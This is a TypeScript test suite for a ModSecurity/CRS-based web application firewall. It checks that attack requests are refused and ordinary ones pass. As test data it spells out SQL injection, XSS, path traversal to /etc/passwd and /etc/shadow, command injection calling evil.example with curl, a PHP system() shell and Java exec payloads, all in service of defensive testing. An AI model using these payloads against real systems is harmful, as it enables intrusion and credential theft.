import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { test } from 'node:test'
import { evaluate } from '../../../src/filters/waf/engine.ts'
import { loadRules } from '../../../src/filters/waf/load.ts'
import { exclusions } from '../../../src/filters/waf/phase.ts'
import { requestData } from '../../../src/filters/waf/request-data.ts'
import { wafRouteSchema } from '../../../src/filters/waf/schema.ts'
import { specialize } from '../../../src/filters/waf/specialize.ts'
import { type CorpusRequest, corpus } from './corpus.ts'
import { crsDir } from './modsecurity.ts'
import { payloads } from './payloads.ts'

const skip = existsSync(crsDir) ? undefined : `${crsDir} is not installed (apt-get install modsecurity-crs)`
const program = skip ? undefined : loadRules(crsDir)
const config = wafRouteSchema.parse({})
const tx = new Map([
  ['crs_setup_version', '334'],
  ['paranoia_level', '1'],
  ['executing_paranoia_level', '1'],
  ['inbound_anomaly_score_threshold', '5'],
  ['allowed_methods', config.allowed_methods.join(' ')],
])
const plan = program && specialize(program, tx, exclusions(config))
// Stock CRS behaviour on prose: the free-text default turned off.
const stockConfig = wafRouteSchema.parse({ free_text_fields: [] })
const stockPlan = program && specialize(program, tx, exclusions(stockConfig))

const browser: [string, string][] = [
  ['Host', 'shop.example.com'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0'],
  ['Accept', 'text/html,*/*;q=0.8'],
]

/** Whether Portico's defaults at paranoia level 1 refuse the request. */
function blocks(
  method: string,
  target: string,
  headers: [string, string][] = browser,
  body?: string,
  stock = false,
): boolean {
  const extra: [string, string][] = body === undefined ? [] : [['Content-Length', String(Buffer.byteLength(body))]]
  const data = requestData({
    method,
    target,
    protocol: 'HTTP/1.1',
    headers: [...headers, ...extra],
    remoteAddr: '192.0.2.1',
    body: body === undefined ? undefined : Buffer.from(body),
  })
  const [p, c] = stock ? [stockPlan!, stockConfig] : [plan!, config]
  return evaluate(p.program, data, p.start, exclusions(c)).deny
}
const q = (v: string): string => `/search?q=${encodeURIComponent(v)}`
const json = (value: unknown): [[string, string][], string] => [
  [...browser, ['Content-Type', 'application/json']],
  JSON.stringify(value),
]

const attacks: Record<string, [string, string, [string, string][]?, string?][]> = {
  'SQL injection': [
    ['GET', q("1' or '1'='1")],
    ['GET', q('1 UNION SELECT username, password FROM users')],
    ['POST', '/api', ...json({ id: "1' AND SLEEP(5)--" })],
  ],
  XSS: [
    ['GET', q('<script>alert(1)</script>')],
    ['GET', q('<img src=x onerror=alert(1)>')],
    ['POST', '/api', ...json({ bio: '<svg onload=alert(1)>' })],
  ],
  'local file inclusion': [
    ['GET', q('../../../../etc/passwd')],
    ['GET', '/download?file=..%2f..%2f..%2fetc%2fshadow'],
  ],
  'remote file inclusion': [['GET', `/page?include=${encodeURIComponent('http://198.51.100.7/shell.txt?')}`]],
  'remote command execution': [
    ['GET', q(';cat /etc/passwd')],
    ['GET', q('$(curl http://evil.example)')],
  ],
  'PHP injection': [
    ['GET', q('<?php system($_GET["c"]); ?>')],
    ['GET', q('php://filter/convert.base64-encode/resource=index.php')],
  ],
  'Java injection': [
    ['POST', '/api', ...json({ x: 'java.lang.Runtime.getRuntime().exec("id")' })],
    ['GET', q('java.lang.Runtime.getRuntime().exec("id")')],
    ['GET', q(payloads.java[0])],
  ],
  scanners: [
    [
      'GET',
      '/',
      [
        ['Host', 'shop.example.com'],
        ['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
        ['Accept', '*/*'],
      ],
    ],
    [
      'GET',
      '/',
      [
        ['Host', 'shop.example.com'],
        ['User-Agent', 'Nikto/2.1.6'],
        ['Accept', '*/*'],
      ],
    ],
  ],
  'protocol violations': [
    ['TRACK', '/'],
    ['GET', '/backup.sql'],
    ['GET', '/?x=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK'],
  ],
}

for (const [family, cases] of Object.entries(attacks)) {
  test(`the firewall refuses ${family} at paranoia level 1`, { skip }, () => {
    for (const [method, target, headers, body] of cases)
      assert.ok(blocks(method, target, headers, body), `${method} ${target} ${body ?? ''}`)
  })
}

test('ordinary requests pass: SQL words in JSON prose, apostrophes in names, search queries, base64 cookies, PUT, PATCH and DELETE', {
  skip,
}, () => {
  const cookie: [string, string] = [
    'Cookie',
    `session=${Buffer.from('user:42:admin=false;ts=1700000000').toString('base64')}; theme=dark`,
  ]
  const passes: [string, string, [string, string][]?, string?][] = [
    [
      'POST',
      '/api/orders',
      ...json({ message: 'Please select a size and drop us a line if it does not fit', name: "Seán O'Brien" }),
    ],
    ['PUT', '/api/products/7', ...json({ description: 'Can you delete the old address and insert the new one?' })],
    ['PATCH', '/api/users/1', ...json({ name: "D'Angelo Russell", bio: "I'm a developer; I like coffee" })],
    ['DELETE', '/api/cart/items/3', [...browser, cookie]],
    ['GET', q('how to select a laptop'), [...browser, cookie]],
    ['GET', q("O'Reilly books"), [...browser, cookie]],
    ['GET', q('rock and roll')],
    ['GET', `/users?name=${encodeURIComponent("Miles O'Neil")}&page=2`],
  ]
  for (const [method, target, headers, body] of passes)
    assert.ok(!blocks(method, target, headers, body), `${method} ${target} ${body ?? ''}`)
})

test('block rate per family and false positives on 500 ordinary requests, with the defaults at paranoia level 1', {
  skip,
}, (t) => {
  const rates = new Map<string, [number, number]>()
  for (const r of corpus(500, true) as CorpusRequest[]) {
    const n = rates.get(r.family) ?? [0, 0]
    n[0] += blocks(r.method, r.target, [...r.headers] as [string, string][], r.body) ? 1 : 0
    n[1]++
    rates.set(r.family, n)
  }
  for (const [family, [blocked, all]] of rates)
    t.diagnostic(`${family}: ${blocked}/${all} refused (${((blocked / all) * 100).toFixed(1)}%)`)
  const [fp, ordinary] = rates.get('ordinary')!
  assert.ok(fp / ordinary < 0.02, `false positives ${fp}/${ordinary}`)
  assert.ok(rates.get('sqli')![0] / rates.get('sqli')![1] > 0.9)
  assert.ok(rates.get('xss')![0] / rates.get('xss')![1] > 0.95)
})

test('prose in a free-text field passes by default and is refused with the free-text default off; attacks in those fields are still refused', {
  skip,
}, () => {
  const prose = json({ message: 'Union members get 10% off; select items only', name: "Seán O'Brien" })
  assert.ok(!blocks('POST', '/api/orders', ...prose), 'prose refused with the defaults')
  assert.ok(blocks('POST', '/api/orders', ...prose, true), 'prose passed with free_text_fields: []')
  const form = 'name=Ann&message=Union%20members%20get%2010%25%20off%3B%20select%20items%20only'
  const formHeaders: [string, string][] = [...browser, ['Content-Type', 'application/x-www-form-urlencoded']]
  assert.ok(!blocks('POST', '/contact', formHeaders, form))
  // The same sentence in a field not named for free text is judged as stock CRS does.
  assert.ok(blocks('POST', '/api/orders', ...json({ sku: 'Union members get 10% off; select items only' })))
  for (const attack of [
    "1' UNION SELECT password FROM users --",
    '1; select * from users',
    '<script>alert(1)</script>',
    ';cat /etc/passwd',
    '$(curl http://evil.example)',
  ])
    assert.ok(blocks('POST', '/api/comments', ...json({ comment: attack, rating: 4 })), attack)
})

test('block rates per family are the same with the free-text default on and off, at paranoia levels 1 and 2', {
  skip,
}, () => {
  for (const level of [1, 2]) {
    const levelTx = new Map([...tx, ['paranoia_level', String(level)], ['executing_paranoia_level', String(level)]])
    const on = wafRouteSchema.parse({ paranoia_level: level })
    const off = wafRouteSchema.parse({ paranoia_level: level, free_text_fields: [] })
    const plans = [on, off].map((c) => ({ plan: specialize(program!, levelTx, exclusions(c)), ex: exclusions(c) }))
    for (const r of corpus(0, true)) {
      const [a, b] = plans.map(({ plan: p, ex }) => {
        const data = requestData({
          method: r.method,
          target: r.target,
          protocol: 'HTTP/1.1',
          headers: r.headers,
          remoteAddr: '192.0.2.1',
          body: r.body === undefined ? undefined : Buffer.from(r.body),
        })
        return evaluate(p.program, data, p.start, ex).deny
      })
      assert.equal(a, b, `PL${level} ${r.family} ${r.method} ${r.target} ${r.body ?? ''}`)
    }
  }
})

test('XML bodies are read as ModSecurity reads them: attacks in element text (and, for the rules that read them, attributes) are refused, an ordinary document passes', {
  skip,
}, () => {
  const xml = (body: string): [[string, string][], string] => [[...browser, ['Content-Type', 'application/xml']], body]
  const soap = (body: string): [[string, string][], string] => [
    [...browser, ['Content-Type', 'application/soap+xml; charset=utf-8']],
    body,
  ]
  assert.ok(blocks('POST', '/api/orders', ...xml("<order><note>1' UNION SELECT password FROM users --</note></order>")))
  assert.ok(blocks('POST', '/api/orders', ...xml('<order><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>')))
  // Attribute values are read by the rules that name XML://@* (the Java injection ones in CRS 3.3).
  assert.ok(
    blocks('POST', '/api/orders', ...xml('<order note="java.lang.Runtime.getRuntime().exec(&quot;id&quot;)"/>')),
  )
  assert.ok(
    blocks('POST', '/ws', ...soap('<Envelope><Body><q><![CDATA[<script>alert(1)</script>]]></q></Body></Envelope>')),
  )
  assert.ok(
    !blocks(
      'POST',
      '/api/orders',
      ...xml(`<?xml version="1.0"?><order id="7"><name>Seán O'Brien</name><item sku="A-1">mug</item></order>`),
    ),
  )
})
